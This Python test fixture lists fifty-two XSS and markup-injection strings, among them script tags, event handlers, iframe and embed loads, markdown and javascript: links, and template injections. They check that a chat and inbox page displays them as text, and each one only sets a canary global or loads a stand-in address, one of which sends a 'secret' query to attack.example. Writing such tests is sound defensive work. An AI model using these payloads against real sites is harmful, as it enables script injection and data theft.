"""Text that would do something if a page took it for markup: what the chat, the inbox and the figures must only show.

Each sets ``window.canary`` or asks for ``/loaded-by-attack`` or another machine if it works. The page must do neither.
"""

from __future__ import annotations

CANARY = "canary"
"""Global that an attack sets."""
LOADED = "loaded-by-attack"
"""Stands in every address that an attack would load."""

_SCRIPT = (
    "<script>window.canary=1</script>",
    "<ScRiPt>window.canary=1</sCrIpT>",
    "<script src=/loaded-by-attack.js></script>",
    "<script type=module>import '/loaded-by-attack.js'</script>",
    "</textarea><script>window.canary=1</script>",
    "</title><script>window.canary=1</script>",
    "--><script>window.canary=1</script><!--",
    "]]><script>window.canary=1</script>",
    '"><script>window.canary=1</script>',
    '<noscript><p title="</noscript><img src=x onerror=window.canary=1>">',
)
_HANDLERS = (
    "<img src=x onerror=window.canary=1>",
    "<img src=/loaded-by-attack.png>",
    "<svg onload=window.canary=1></svg>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<svg><use href=/loaded-by-attack.svg#x></svg>",
    "<body onload=window.canary=1>",
    "<details open ontoggle=window.canary=1>open</details>",
    "<input autofocus onfocus=window.canary=1>",
    "<video src=/loaded-by-attack.mp4 onerror=window.canary=1></video>",
    "<marquee onstart=window.canary=1>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.canary=1>",
)
_LOADING = (
    "<iframe src=/loaded-by-attack></iframe>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<object data=/loaded-by-attack></object>",
    "<embed src=/loaded-by-attack>",
    "<link rel=stylesheet href=/loaded-by-attack.css>",
    "<meta http-equiv=refresh content='0;url=/loaded-by-attack'>",
    "<base href=https://attack.example/loaded-by-attack/>",
    "<style>body{background:url(/loaded-by-attack.png)}</style>",
    "<div style=background:url(/loaded-by-attack.png)>x</div>",
    "<form action=/loaded-by-attack><button autofocus>x</button></form>",
)
_MARKDOWN = (
    "![x](/loaded-by-attack.png)",
    "![x](https://attack.example/loaded-by-attack.png?q=secret)",
    "[press](javascript:window.canary=1)",
    "[press](data:text/html,<script>window.canary=1</script>)",
    "[x]: https://attack.example/loaded-by-attack\n![x][x]",
    "<https://attack.example/loaded-by-attack>",
    "https://attack.example/loaded-by-attack",
    "<a href=javascript:window.canary=1>press</a>",
    "```html\n<img src=x onerror=window.canary=1>\n```",
    "| a |\n|---|\n| <img src=x onerror=window.canary=1> |",
)
_TEMPLATES = (
    "{{constructor.constructor('window.canary=1')()}}",
    "${window.canary=1}",
    "&lt;img src=x onerror=window.canary=1&gt;",
    "\\u003cimg src=x onerror=window.canary=1\\u003e",
    "[PERSON:<img src=x onerror=window.canary=1>-4B]",
    "[IMG:AAAAAAAAAA-4B] <img src=x onerror=window.canary=1> [1] [999]",
    "\u202e<img src=x onerror=window.canary=1>\u202c",
    'data: x\n\nevent: answer\ndata: {"text": "window.canary=1"}',
    "javascript:window.canary=1",
    "__proto__",
)

ATTACKS: tuple[str, ...] = (*_SCRIPT, *_HANDLERS, *_LOADING, *_MARKDOWN, *_TEMPLATES)
"""Fifty-two of them."""
